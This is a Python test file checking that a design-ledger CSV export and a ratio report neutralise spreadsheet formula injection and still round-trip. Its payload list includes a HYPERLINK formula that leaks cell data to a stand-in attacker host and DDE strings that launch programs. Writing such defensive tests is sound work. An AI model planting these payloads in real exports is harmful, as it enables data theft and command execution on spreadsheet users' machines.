"""CSV injection: text from prompts, project names and account names that a spreadsheet would run as a
formula is written inert in the ledger export and the ratio report, and the ledger still round-trips."""
from __future__ import annotations

import csv
import io

import pytest
from sqlalchemy import create_engine

from brand_guard.csvsafe import restore_cell, safe_cell
from brand_guard.ledger import Ledger, create_tables, import_csv
from brand_guard.provenance import StudioKeys
from brand_guard.ratios import report

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"open")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
            "\t=1+1", "\r=1+1", "=cmd|'/C notepad'!A0"]


@pytest.mark.parametrize("text", FORMULAS)
def test_formula_cells_get_a_leading_quote_and_come_back_exactly(text):
    cell = safe_cell(text)
    assert cell == "'" + text and restore_cell(cell) == text


@pytest.mark.parametrize("value", ["AW27", "bag 3", "-3", "+4.5", "1e-5", "", 12, 1.5, None, "{\"a\": \"=x\"}"])
def test_plain_text_and_numbers_are_left_alone(value):
    assert safe_cell(value) == value


def test_a_leading_quote_is_doubled_so_it_survives_the_round_trip():
    assert safe_cell("'=x") == "''=x" and restore_cell(safe_cell("'=x")) == "'=x"
    assert restore_cell(safe_cell("'quoted")) == "'quoted"


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


def _dangerous(cells) -> list[str]:
    return [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r") and not c.lstrip("+-").replace(".", "").isdigit()]


def test_ledger_export_neutralises_formula_names_and_still_verifies(tmp_path):
    engine = create_engine(f"sqlite:///{tmp_path / 'studio.db'}")
    create_tables(engine)
    ledger = Ledger(engine, StudioKeys.load_or_create(tmp_path / "keys"), tmp_path / "ledger.head.json")
    for i, text in enumerate(FORMULAS):
        ledger.append("design_created", text, "designer", "design", text,
                      {"style_id": text, "collection": text, "season": "AW27", "prompt": text})
    buf = io.StringIO()
    ledger.export_csv(buf)
    cells = _cells(buf.getvalue())
    assert not _dangerous(cells), _dangerous(cells)
    assert "'" + FORMULAS[0] in cells  # the actor column, quoted
    entries = import_csv(io.StringIO(buf.getvalue()))
    assert [e.to_dict() for e in entries] == [e.to_dict() for e in ledger.events()]
    assert entries[0].actor == FORMULAS[0]


def test_ratio_report_neutralises_formula_collections_and_seasons():
    events = [{"seq": i + 1, "event": "design_created", "subject_type": "design", "subject_id": f"d{i}",
               "payload": {"style_id": f"s{i}", "collection": text, "season": "@season"},
               "created_at": "2027-01-01T09:00:00+00:00"} for i, text in enumerate(FORMULAS)]
    cells = _cells(report(events, format="csv"))
    assert not _dangerous(cells), _dangerous(cells)
    assert "'" + FORMULAS[0] in cells and "'@season" in cells


def test_a_ledger_export_file_with_cr_in_a_name_round_trips(tmp_path):
    engine = create_engine(f"sqlite:///{tmp_path / 'studio.db'}")
    create_tables(engine)
    ledger = Ledger(engine, StudioKeys.load_or_create(tmp_path / "keys"), tmp_path / "ledger.head.json")
    ledger.append("design_created", "\r=1+1", "designer", "design", "d1", {"style_id": "s1", "collection": "AW27"})
    ledger.export_csv(tmp_path / "ledger.csv")
    assert import_csv(tmp_path / "ledger.csv")[0].actor == "\r=1+1"
